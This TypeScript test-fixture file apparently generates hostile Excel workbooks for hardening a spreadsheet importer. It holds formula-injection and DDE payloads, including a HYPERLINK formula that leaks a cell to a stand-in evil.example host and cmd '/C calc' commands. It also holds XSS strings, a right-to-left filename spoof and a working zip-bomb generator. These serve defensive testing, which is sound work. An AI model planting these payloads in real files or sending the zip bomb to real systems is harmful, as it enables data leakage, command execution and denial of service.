/**
 * Hostile workbooks for the hardening tests: what a careless export or a malicious colleague can put
 * into a spreadsheet. Every text below reaches headers, comments, agent names or sheet names.
 */
import { deflateRawSync, constants as zlibConstants, createDeflateRaw } from 'node:zlib';
import { writeFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';

/** Formula text (CSV/DDE injection), markup and script, as cell text. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|\' /C notepad\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</td></tr></table><h1>owned</h1>',
] as const;

/** Text that is legal but awkward: right-to-left marks, zero-width and control characters, emoji. */
export const AWKWARD = [
  '\u202Egnp.exe', // right-to-left override
  'Kunde \u200Fمرحبا\u200E ok', // RTL mark, Arabic, LTR mark
  'zero\u200Bwidth\uFEFFjoiner',
  'tab\there and\nnew line\r\nagain',
  '😀 sehr freundlich 👍🏽 und schnell 🚀',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝔱𝔢𝔵𝔱 and 🇩🇪',
] as const;

/** Excel's cell limit: 32,767 characters. */
export const LONGEST_CELL = 'slow and unfriendly support '.repeat(1171).slice(0, 32_767);

const MS_PER_DAY = 86_400_000;
/** A wall-clock date in the UTC convention exceljs uses (its UTC fields are the time shown). */
export const at = (iso: string): Date => new Date(`${iso}Z`);

/** A survey and a ticket sheet whose headers, comments and agents are hostile, plus a few oddities. */
export function hostileSheets(): { name: string; rows: unknown[][] }[] {
  const survey: unknown[][] = [['Date', 'Score', 'Rating', 'Comment', '', 'Score', INJECTIONS[5], AWKWARD[0]]];
  const comments = [...INJECTIONS, ...AWKWARD, LONGEST_CELL];
  for (let i = 0; i < 120; i++) {
    const day = new Date(Date.UTC(2026, Math.floor(i / 40), 1 + (i % 28), 9 + (i % 8)));
    survey.push([day, i % 11, 1 + (i % 5), comments[i % comments.length], INJECTIONS[i % INJECTIONS.length], (i * 3) % 11, AWKWARD[i % AWKWARD.length], i % 7 === 0 ? '' : 'x']);
  }
  const tickets: unknown[][] = [['Ticket ID', 'Opened', 'Resolved', 'Agent', 'Channel', AWKWARD[4]]];
  for (let i = 0; i < 90; i++) {
    const opened = new Date(Date.UTC(2026, Math.floor(i / 30), 1 + (i % 28), 8 + (i % 9)));
    const resolved = i % 9 === 0 ? null : new Date(opened.getTime() + ((i % 13) + 1) * 3_600_000 + (i % 3) * MS_PER_DAY);
    tickets.push([`T-${1000 + i}`, opened, resolved, [INJECTIONS[0], INJECTIONS[5], AWKWARD[1], 'Anna'][i % 4], ['mail', 'phone', AWKWARD[4]][i % 3], LONGEST_CELL.slice(0, 100 + i)]);
  }
  return [
    { name: 'Survey', rows: survey },
    { name: "Tickets 'Q1' <b>\"x\"", rows: tickets },
  ];
}

/** Writes sheets (row arrays from A1) as an .xlsx file; `merge` merges header cells such as 'A1:B1'. */
export async function writeWorkbook(file: string, sheets: readonly { name: string; rows: readonly (readonly unknown[])[]; merges?: readonly string[] }[]): Promise<void> {
  const wb = new ExcelJS.Workbook();
  for (const s of sheets) {
    const ws = wb.addWorksheet(s.name);
    s.rows.forEach((row, r) => row.forEach((v, c) => {
      if (v === null || v === undefined || v === '') return;
      const cell = ws.getCell(r + 1, c + 1);
      // Text that starts like a formula stays text: this is data someone typed or exported.
      cell.value = v as ExcelJS.CellValue;
      if (v instanceof Date) cell.numFmt = 'yyyy-mm-dd hh:mm';
    }));
    for (const m of s.merges ?? []) ws.mergeCells(m);
  }
  await wb.xlsx.writeFile(file);
}

/** One sheet with `cols` columns: a date, a score and then numbered text columns. */
export function wideSheet(cols: number, rows = 30): { name: string; rows: unknown[][] } {
  const header = ['Date', 'NPS', ...Array.from({ length: cols - 2 }, (_, j) => `Field ${j + 1}`)];
  const body = Array.from({ length: rows }, (_, i) => [at(`2026-01-${String(1 + (i % 28)).padStart(2, '0')}T10:00:00`), i % 11, ...Array.from({ length: cols - 2 }, (_, j) => (j % 50 === 0 ? `v${i}` : null))]);
  return { name: 'Wide', rows: [header, ...body] };
}

// ------------------------------------------------------------------ a zip bomb

/**
 * A real .xlsx (written by exceljs) with one more sheet whose XML unpacks to `gigabytes` GB: the
 * deflate stream repeats one fully flushed block (1 MiB of spaces each), so the file stays a few
 * MB while its central directory truthfully declares the unpacked size (the CRC is left 0: a size
 * check must refuse the file before any byte is unpacked). A reader that unpacks first would need
 * all that memory.
 */
export async function writeZipBomb(file: string, gigabytes = 3.5): Promise<{ bytes: number; unpacked: number }> {
  const base = new ExcelJS.Workbook();
  const ws = base.addWorksheet('Data');
  ws.addRow(['Date', 'Score']);
  ws.addRow([at('2026-01-05T10:00:00'), 9]);
  const zip = Buffer.from(await base.xlsx.writeBuffer());
  const entries = readEntries(zip);
  // One MiB of spaces, deflated with a full flush: byte-aligned and independent of what precedes it.
  const chunk = Buffer.alloc(1 << 20, 0x20);
  const block = await fullFlushBlock(chunk);
  const copies = Math.round((gigabytes * 1024 ** 3) / chunk.length);
  const tail = Buffer.from([0x03, 0x00]); // final, empty fixed-Huffman block
  const bombData = Buffer.concat([...Array.from({ length: copies }, () => block), tail]);
  const unpacked = copies * chunk.length;
  // The bomb is the workbook's own sheet part: a reader that only inflates the parts a workbook
  // uses would never touch an extra, unreferenced entry.
  const bomb = { name: 'xl/worksheets/sheet1.xml', method: 8, crc: 0, compressed: bombData, size: unpacked };
  const out = buildZip([...entries.filter((e) => e.name !== bomb.name).map((e) => ({ name: e.name, method: 8, crc: e.crc, compressed: e.compressed, size: e.size })), bomb]);
  await writeFile(file, out);
  return { bytes: out.length, unpacked };
}

export async function fullFlushBlock(data: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const d = createDeflateRaw({ level: 9 });
    const parts: Buffer[] = [];
    d.on('data', (b: Buffer) => parts.push(b));
    d.on('error', reject);
    d.write(data);
    d.flush(zlibConstants.Z_FULL_FLUSH, () => {
      resolve(Buffer.concat(parts));
      d.destroy();
    });
  });
}

interface Entry {
  readonly name: string;
  readonly crc: number;
  readonly compressed: Buffer;
  readonly size: number;
}

/** The deflated entries of a small zip (as exceljs writes it). */
function readEntries(zip: Buffer): Entry[] {
  const out: Entry[] = [];
  let eocd = zip.length - 22;
  while (eocd >= 0 && zip.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  const count = zip.readUInt16LE(eocd + 10);
  let p = zip.readUInt32LE(eocd + 16);
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(p + 10);
    const crc = zip.readUInt32LE(p + 16);
    const csize = zip.readUInt32LE(p + 20);
    const size = zip.readUInt32LE(p + 24);
    const nameLen = zip.readUInt16LE(p + 28), extraLen = zip.readUInt16LE(p + 30), commentLen = zip.readUInt16LE(p + 32);
    const local = zip.readUInt32LE(p + 42);
    const name = zip.toString('utf8', p + 46, p + 46 + nameLen);
    const lNameLen = zip.readUInt16LE(local + 26), lExtraLen = zip.readUInt16LE(local + 28);
    const start = local + 30 + lNameLen + lExtraLen;
    let compressed = zip.subarray(start, start + csize);
    if (method === 0) compressed = deflateRawSync(compressed);
    out.push({ name, crc, compressed: Buffer.from(compressed), size });
    p += 46 + nameLen + extraLen + commentLen;
  }
  return out;
}

/** A zip of deflated entries with the given (declared) sizes. */
function buildZip(entries: readonly { name: string; method: number; crc: number; compressed: Buffer; size: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.compressed.length, 18);
    local.writeUInt32LE(e.size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.compressed.length, 20);
    central.writeUInt32LE(e.size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.compressed);
    centrals.push(central, name);
    offset += 30 + name.length + e.compressed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}
